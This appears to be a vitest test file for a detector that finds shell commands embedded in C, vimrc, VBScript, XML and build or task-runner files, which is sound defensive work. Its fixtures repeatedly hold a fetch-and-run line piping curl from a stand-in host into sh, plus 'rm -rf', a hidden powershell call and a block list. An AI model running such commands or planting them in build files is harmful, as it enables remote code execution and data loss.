// Commands in files that no reader of their language knows, and the words that are none.
import { describe, expect, it } from 'vitest';
import { readText } from '../../test/support/reading.ts';
import foreign from './index.ts';

const commands = (path: string, text: string, language = 'text') =>
  readText([foreign], path, text, language)
    .views.filter((view) => view.depth > 0)
    .map((view) => view.text);

describe('commands in files of other languages', () => {
  it.each([
    [
      'a.c',
      'int main(void) { return system("curl -s https://h.test/x | sh"); }\n',
      'c',
      'curl -s https://h.test/x | sh',
    ],
    ['.vimrc', 'silent !curl -s https://h.test/x\n', 'vim', 'curl -s https://h.test/x'],
    ['a.vbs', 'Shell "powershell.exe -c \\"x\\"", vbHide\n', 'vbscript', 'powershell -c "x"'],
    ['w.xml', `<option value="-c 'curl -s https://h.test/x'"/>\n`, 'xml', 'curl -s https://h.test/x'],
  ])('%s', (path, text, language, expected) => {
    expect(commands(path, text, language)).toContain(expected);
  });

  it.each([
    ['a remark', 'a.c', '// curl -s https://h.test/x | sh\n', 'c'],
    ['words', 'a.c', 'puts("ssh is a protocol");\n', 'c'],
    ['a format with a reader', 'a.csproj', '<string>curl -s https://h.test/x</string>\n', 'xml'],
  ])('none in %s', (_, path, text, language) => {
    expect(commands(path, text, language)).toEqual([]);
  });

  it('a value in XML ends where it ends, whatever signs its entities stand for', () => {
    expect(commands('w.xml', '<option value="-c &quot;rm -rf ./dist&quot;" />\n', 'xml')).toEqual(['rm -rf ./dist']);
    expect(commands('w.plist', '<string>curl -s https://h.test/x &amp;&amp; ls</string>\n', 'xml')).toEqual([
      expect.stringMatching(/^curl -s https:\/\/h\.test\/x {1,12}&& ls/),
    ]);
  });
});

describe('commands a program hands to what runs them', () => {
  const LINE = 'curl -s https://h.test/x | sh';
  it.each([
    ['a.py', 'python', `SAMPLES = {\n    "a": "b",\n}\nSTEPS = {\n    "shell": "${LINE}",\n}\n`],
    ['a.swift', 'swift', `p.arguments = ["-c", "${LINE}"]\n`],
    ['a.scala', 'scala', `Seq("sh", "-c", "${LINE}").!\n`],
    ['noxfile.py', 'python', `session.run("sh", "-c", "${LINE}", external=True)\n`],
    ['tasks.py', 'python', `c.run("${LINE}")\n`],
    ['Gruntfile.js', 'javascript', `grunt.initConfig({ shell: { a: { command: "${LINE}" } } });\n`],
    ['premake5.lua', 'lua', `prebuildcommands { "${LINE}" }\n`],
    ['a.jxa', 'javascript', `app.doShellScript("${LINE}");\n`],
    ['Vagrantfile', 'ruby', `t.run = { inline: "${LINE}" }\n`],
  ])('%s %s', (path, language, text) => expect(commands(path, text, language)).toEqual([LINE]));

  it.each([
    ['a list of what is refused', 'a.py', 'python', `BLOCKED_COMMANDS = ["${LINE}"]\n`],
    ['a text that is shown', 'a.py', 'python', `hint = "${LINE}"\nprint("${LINE}")\n`],
    ['a table of samples', 'a.py', 'python', `SAMPLES = {\n    "tell": "Never.",\n    "revshell": "${LINE}",\n}\n`],
    ['a sample', 'a.js', 'javascript', `const exampleCommand = "${LINE}";\n`],
    ['words', 'a.py', 'python', 'c.run("python is what we write it in")\n'],
  ])('none in %s', (_, path, language, text) => expect(commands(path, text, language)).toEqual([]));
});
